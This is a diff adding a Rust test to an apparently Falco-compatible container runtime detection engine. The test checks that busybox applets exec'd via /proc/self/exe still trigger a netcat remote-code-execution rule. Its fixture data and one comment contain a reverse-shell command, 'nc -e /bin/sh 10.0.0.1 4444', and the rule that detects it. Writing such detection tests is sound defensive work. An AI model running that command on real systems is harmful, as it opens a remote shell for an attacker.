@@ -146,3 +146,40 @@ fn sensitive_mount_needs_a_sensitive_bind() {
     let got: Vec<String> = alert.output_fields.iter().map(|(_, v)| shown(v)).collect();
     assert_eq!(got, ["none", "N/A", "N/A", (3 * SEC).to_string().as_str()]);
 }
+
+#[test]
+fn busybox_applets_run_through_proc_self_exe_are_named_by_argv0() {
+    // busybox's `sh -c 'nc -e /bin/sh 10.0.0.1 4444'` execs /proc/self/exe, argv[0] `nc`: the
+    // kernel names the task `exe`, and Falco's netcat rule stays silent.
+    let ruleset = rules(
+        "- rule: Netcat Remote Code Execution in Container\n  desc: d\n  condition: evt.type = execve and proc.name = \"nc\" and proc.cmdline contains \" -e\"\n  output: \"%proc.name %proc.cmdline %proc.exe %proc.pname\"\n  priority: WARNING\n",
+    );
+    let applet = |path: &str, comm: &str, argv: &[&str]| {
+        let mut r = exec(20, 10, comm, path, 2 * SEC);
+        if let Record::Exec { argv: a, .. } = &mut r {
+            *a = argv.iter().map(|s| (*s).to_owned()).collect();
+        }
+        r
+    };
+    let nc = &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
+    let shell = exec(10, 1, "sh", "/bin/sh", SEC);
+    assert_eq!(raised(&ruleset, vec![exec(10, 1, "sh", "/bin/sh", SEC)], applet("/proc/self/exe", "exe", nc), None), ["Netcat Remote Code Execution in Container"]);
+    assert_eq!(raised(&ruleset, vec![exec(10, 1, "sh", "/bin/sh", SEC)], applet("/proc/10/exe", "exe", nc), None), ["Netcat Remote Code Execution in Container"]);
+    // Any other exec keeps the kernel's name, whatever argv[0] says.
+    assert!(raised(&ruleset, vec![shell], applet("/usr/bin/socat", "socat", nc), None).is_empty());
+
+    let mut table = ProcessTable::offline();
+    let mut builder = EventBuilder::new(BOOT_TO_WALL);
+    let _ = builder.build(exec(10, 1, "sh", "/bin/sh", SEC), &mut table);
+    let data = builder.build(applet("/proc/self/exe", "exe", nc), &mut table).expect("exec");
+    let p = table.get(20).expect("nc");
+    assert_eq!((p.comm.as_str(), p.name(), p.exepath.as_str()), ("exe", "nc", "/proc/self/exe"), "decisions keep the kernel's comm");
+    let users = Users::default();
+    let rule = ruleset.rule("Netcat Remote Code Execution in Container").expect("rule");
+    let alert = palisade_rules::alert::Alert::new(rule, &data.view(&table, &users, None), data.time_ns, "h");
+    let got: Vec<String> = alert.output_fields.iter().map(|(_, v)| shown(v)).collect();
+    assert_eq!(got, ["nc", "nc -e /bin/sh 10.0.0.1 4444", "nc", "sh"]);
+    // A fork of the applet is still that program.
+    let _ = builder.build(Record::Fork { hdr: hdr(20, 10, "exe", 3 * SEC), child_pid: 21, child_tid: 21, child_vpid: 0 }, &mut table);
+    assert_eq!(table.get(21).map(|p| p.name()), Some("nc"));
+}
